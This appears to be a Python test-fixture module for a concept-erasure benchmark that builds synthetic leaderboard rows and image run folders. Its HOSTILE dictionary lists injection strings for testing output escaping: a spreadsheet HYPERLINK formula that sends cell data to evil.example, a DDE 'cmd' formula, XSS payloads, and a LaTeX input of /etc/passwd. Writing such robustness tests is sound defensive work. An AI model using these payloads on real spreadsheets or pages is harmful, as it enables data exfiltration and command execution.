"""Leaderboard rows made of nothing: any number of methods, metrics, tasks and concepts; and a run's folder with images."""

from __future__ import annotations

import hashlib
import random

import numpy as np

from conceptbench.core.files import pretty_json, write_text
from conceptbench.core.manifests import load_suite
from conceptbench.core.results import ResultRow, to_csv
from conceptbench.engine.records import Record, write_records
from conceptbench.engine.store import Store

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "image": "<img src=x onerror=alert(1)>",
    "script": "</script><script>alert(2)</script>",
    "comment": "<!--<script>",
    "quotes": "\"' onmouseover='alert(3)' x=\"",
    "right to left": "abc\u202egnp.exe\u2066\u200f",
    "separator": "a\u2028b\u2029c",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "latex": "\\input{/etc/passwd}%\n}\\end{tabular}$x_1^2$ & # ~",
    "proto": "__proto__",
    "css": "red;background:url(http://evil.example/x)",
    "long": "very-long-" * 400,
}
"""Texts that a page, a spreadsheet or LaTeX could trip over."""

METRICS = (
    *(("esr-1", "target", "rate", "higher"), ("psr-1", "retained", "rate", "higher"), ("clip_score", "target", "score", "lower")),
    *(("lpips", "retained", "distance", "lower"), ("nothing", "target", "rate", "lower"), ("cost-seconds", "model", "seconds", "lower")),
)


def sha(text):
    return hashlib.sha256(text.encode()).hexdigest()


def row(**changes):
    """One row; what is not said is ordinary."""
    usual = {
        **{"suite": "made-up", "suite_version": "1.0", "task": "church", "role": "target", "concept": "*", "base": "mini", "eraser": "uce", "preset": "mini"},
        **{"metric": "esr-1", "better": "higher", "unit": "rate", "value": 0.75, "ci_low": 0.55, "ci_high": 0.9, "ci_kind": "wilson"},
        **{"n_planned": 24, "n_scored": 24, "n_failed": 0, "clusters": 24, "base_value": 0.25, "delta": 0.5, "delta_low": 0.3, "delta_high": 0.7},
        **{
            "train_seed": 0,
            "status": "ok",
            "suite_sha256": sha("suite"),
            "base_sha256": sha("base"),
            "judge_sha256": sha("judge"),
            "plugin_sha256": sha("uce"),
        },
        **{"environment": "conceptbench 0.1.0", "hardware": "x86_64 cpu"},
    }
    values = {**usual, **changes}
    values.setdefault("protocol", f"{values['metric']}@arithmetic/judge")
    values.setdefault("erasure_sha256", sha(f"{values['eraser']} {values['preset']} {values['task']}"))
    return ResultRow(**values)


def base_row(**changes):
    """A row of the unmodified model."""
    without = {"preset": "", "train_seed": None, "plugin_sha256": "", "erasure_sha256": "", "delta": None, "delta_low": None, "delta_high": None}
    return row(**{"eraser": "base", "value": 0.25, "ci_low": 0.1, "ci_high": 0.45, **without, **changes})


def board(methods=("uce", "esd-x", "fmn"), tasks=("church", "fish"), concepts=(), metrics=METRICS, suite="made-up", **changes):
    """The base and some methods under all metrics, with numbers that differ from each other."""
    rng = random.Random(0)
    rows = []
    for task in tasks:
        for eraser in ("base", *methods):
            for metric, role, unit, better in metrics:
                if role == "model" and eraser == "base":
                    continue
                for concept in ("*", *concepts) if role != "model" else ("*",):
                    value = round(rng.random(), 4)
                    named = {"suite": suite, "task": task, "eraser": eraser, "metric": metric, "role": role, "unit": unit, "better": better, "concept": concept}
                    ends = {"ci_low": round(value * 0.9, 4), "ci_high": round(value * 0.9 + 0.1, 4), "value": value, "plugin_sha256": sha(eraser)}
                    rows.append((base_row if eraser == "base" else row)(**{**ends, **named, **({"plugin_sha256": ""} if eraser == "base" else {}), **changes}))
    return rows


def run_folder(folder, suite="mini-explicit", erasers=("uce",), prompts=4, hostile="", side=32, concepts=None, gone=False):
    """A finished run without models: images of one colour a model and prompt. Gives its rows and, by (model, concept), its colours."""
    loaded = load_suite(suite)
    if concepts:
        loaded = loaded.model_copy(update={"concepts": concepts})
    task, store = loaded.tasks[0], Store(folder / "store")
    rows, records, colours = [], [], {}
    for m, eraser in enumerate(("base", *erasers)):
        for c, (role, concept) in enumerate([("target", task.targets[0]), ("retained", task.retained[0])]):
            common = {"suite": suite, "suite_version": loaded.version, "task": task.id, "role": role, "eraser": eraser}
            for name in ("*", concept):
                named = {**common, "concept": name, "metric": "ner-0.5" if role == "target" else "psr-1", "better": "lower" if role == "target" else "higher"}
                rows.append(base_row(**named) if eraser == "base" else row(**named))
            colours[eraser, concept] = [(40 * m + 20, 60 * c + 30, 30 * p + 15) for p in range(prompts)]
            for p, colour in enumerate(colours[eraser, concept]):
                key = sha(f"{suite} {eraser} {concept} {p}")
                if not gone:
                    store.write_image(key, np.full((side, side, 3), colour, np.uint8))
                records.append(Record(task.id, role, concept, eraser, rows[-1].preset, f"p{p}", 0, p, f"{hostile}a picture of {concept} {p}", key))
    write_records(folder / "records.csv", records)
    canonical = {"suite": loaded, "rows": rows}
    write_text(folder / "results.json", pretty_json({"canonical": canonical, "store": str(folder / "store")}))
    write_text(folder / "leaderboard.csv", to_csv(rows))
    return rows, colours
